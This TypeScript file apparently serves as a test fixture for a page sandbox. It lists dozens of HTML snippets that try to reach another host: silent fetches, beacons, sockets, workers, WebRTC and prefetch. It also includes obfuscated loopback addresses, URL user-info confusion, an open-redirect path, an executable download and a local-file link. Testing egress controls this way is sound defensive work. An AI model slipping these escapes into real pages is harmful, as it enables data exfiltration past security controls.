/** Screens that want to carry what they know to another host. Each kind knocks at its own path there. */

/** `there` is the other host (http://…), `here` the allowed one; `path` names the knock. */
type Markup = (to: { there: string; here: string; path: string }) => string;

const script = (code: string): string => `<script>try{${code}}catch(e){}</script>`;

/** Go off by themselves while the page is open. The page itself stays usable. */
export const quietEscapes: Readonly<Record<string, Markup>> = {
  picture: ({ there, path }) => `<img src="${there}${path}">`,
  prefetch: ({ there, path }) => `<link rel=prefetch href="${there}${path}">`,
  preconnect: ({ there, path }) => `<link rel=preload as=fetch href="${there}${path}">`,
  style: ({ there, path }) => `<link rel=stylesheet href="${there}${path}">`,
  background: ({ there, path }) => `<div style="background:url(${there}${path})">背景</div>`,
  "script-file": ({ there, path }) => `<script src="${there}${path}"></script>`,
  module: ({ there, path }) => `<script type=module>import "${there}${path}"</script>`,
  "inner-frame": ({ there, path }) => `<iframe src="${there}${path}" width=9 height=9></iframe>`,
  object: ({ there, path }) => `<object data="${there}${path}"></object>`,
  video: ({ there, path }) => `<video src="${there}${path}" preload=auto></video>`,
  font: ({ there, path }) =>
    `<style>@font-face{font-family:x;src:url(${there}${path})}b{font-family:x}</style><b>字</b>`,
  fetch: ({ there, path }) => script(`fetch("${there}${path}",{mode:"no-cors"}).catch(()=>0)`),
  xhr: ({ there, path }) =>
    script(`const x=new XMLHttpRequest();x.open("POST","${there}${path}");x.send("a")`),
  beacon: ({ there, path }) => script(`navigator.sendBeacon("${there}${path}","a")`),
  events: ({ there, path }) => script(`new EventSource("${there}${path}")`),
  socket: ({ there, path }) => script(`new WebSocket("${there.replace("http", "ws")}${path}")`),
  worker: ({ there, path }) =>
    script(
      `new Worker(URL.createObjectURL(new Blob(['fetch("${there}${path}",{mode:"no-cors"}).catch(()=>0)'])))`,
    ),
  "service-worker": ({ there, path }) =>
    script(`navigator.serviceWorker.register("${there}${path}").catch(()=>0)`),
  "form-in-frame": ({ there, path }) =>
    `<iframe name=q width=9 height=9></iframe><form id=qf target=q method=post action="${there}${path}"></form>${script('document.getElementById("qf").submit()')}`,
  "decimal-address": ({ there, path }) =>
    `<img src="http://2130706433:${new URL(there).port}${path}">`,
  "six-address": ({ there, path }) =>
    `<img src="http://[::ffff:127.0.0.1]:${new URL(there).port}${path}">`,
  "short-address": ({ there, path }) => `<img src="http://127.1:${new URL(there).port}${path}">`,
  "hexadecimal-address": ({ there, path }) =>
    `<img src="http://0x7f.0.0.1:${new URL(there).port}${path}">`,
  "octal-address": ({ there, path }) =>
    `<img src="http://0177.0.0.1:${new URL(there).port}${path}">`,
  "address-of-nobody": ({ there, path }) =>
    `<img src="http://0.0.0.0:${new URL(there).port}${path}">`,
  "name-of-this-machine": ({ there, path }) =>
    `<img src="http://localhost:${new URL(there).port}${path}">`,
  "name-that-turns-round": ({ there, path }) =>
    `<img src="http://127.0.0.1.localhost:${new URL(there).port}${path}">`,
  "style-in-style": ({ there, path }) => `<style>@import url("${there}${path}");</style>`,
  "name-looked-up": ({ there }) => `<link rel=dns-prefetch href="${there}">`,
  connection: ({ there }) => `<link rel=preconnect href="${there}">`,
  speculation: ({ there, path }) =>
    `<script type=speculationrules>{"prerender":[{"urls":["${there}${path}"]}],"prefetch":[{"urls":["${there}${path}"]}]}</script>`,
  "call-by-telephone": ({ there }) =>
    script(
      `const c=new RTCPeerConnection({iceServers:[{urls:"turn:${new URL(there).host}?transport=tcp",username:"a",credential:"b"},{urls:"stun:${new URL(there).host}"}]});c.createDataChannel("a");c.createOffer().then(o=>c.setLocalDescription(o))`,
    ),
  transport: ({ there, path }) =>
    script(`new WebTransport("${there.replace("http:", "https:")}${path}").ready.catch(()=>0)`),
  "frame-of-a-blob": ({ there, path }) =>
    script(
      `const f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(['<img src="${there}${path}">'],{type:"text/html"}));document.body.append(f)`,
    ),
  "sent-on": ({ here, path }) => `<img src="${here}/on?to=${path}">`,
  "frame-sent-on": ({ here, path }) =>
    `<iframe src="${here}/on?to=${path}" width=9 height=9></iframe>`,
  "user-in-address": ({ there, here, path }) =>
    `<img src="http://${new URL(here).host}@${new URL(there).host}${path}">`,
};

/** Leave the page when 「行く」 is pressed, or stop the case before. */
export const loudEscapes: Readonly<Record<string, Markup>> = {
  link: ({ there, path }) => `<a href="${there}${path}">行く</a>`,
  "new-window": ({ there, path }) =>
    `<button onclick="window.open('${there}${path}')">行く</button>`,
  form: ({ there, path }) =>
    `<form method=post action="${there}${path}"><input name=a value=b><button>行く</button></form>`,
  "top-of-frame": ({ there, path }) =>
    `<iframe srcdoc="<script>addEventListener('message',()=>{top.location='${there}${path}'})</script>"></iframe><button onclick="frames[0].postMessage(1,'*')">行く</button>`,
  refresh: ({ there, path }) =>
    `<button onclick="document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content=&quot;0;url=${there}${path}&quot;>')">行く</button>`,
  "frame-of-data": ({ there, path }) =>
    `<button>行く</button><iframe src="data:text/html,<img src='${there}${path}'>"></iframe>`,
  "sent-on-link": ({ here, path }) => `<a href="${here}/on?to=${path}">行く</a>`,
  "sent-on-form": ({ here, path }) =>
    `<form method=post action="${here}/on?to=${path}"><input name=a value=b><button>行く</button></form>`,
  "window-that-leaves-later": ({ there, path }) =>
    `<button onclick="const w=window.open('about:blank');setTimeout(()=>{w.location='${there}${path}'},50)">行く</button>`,
  "leaves-later": ({ there, path }) =>
    `<button onclick="setTimeout(()=>location.replace('${there}${path}'),50)">行く</button>`,
  "page-of-data": ({ there, path }) =>
    `<a href="data:text/html,<script>location='${there}${path}'</script>" target=_blank>行く</a>`,
  "page-of-a-blob": ({ there, path }) =>
    `<button onclick="window.open(URL.createObjectURL(new Blob(['<img src=&quot;${there}${path}&quot;>'],{type:'text/html'})))">行く</button>`,
  "saves-a-file": () => `<a href="data:application/octet-stream,MZ" download="道具.exe">行く</a>`,
  "tells-on-leaving": ({ there, path }) => `<a href="/none" ping="${there}${path}">行く</a>`,
  "local-file": () => `<a href="file:///etc/hostname">行く</a>`,
};
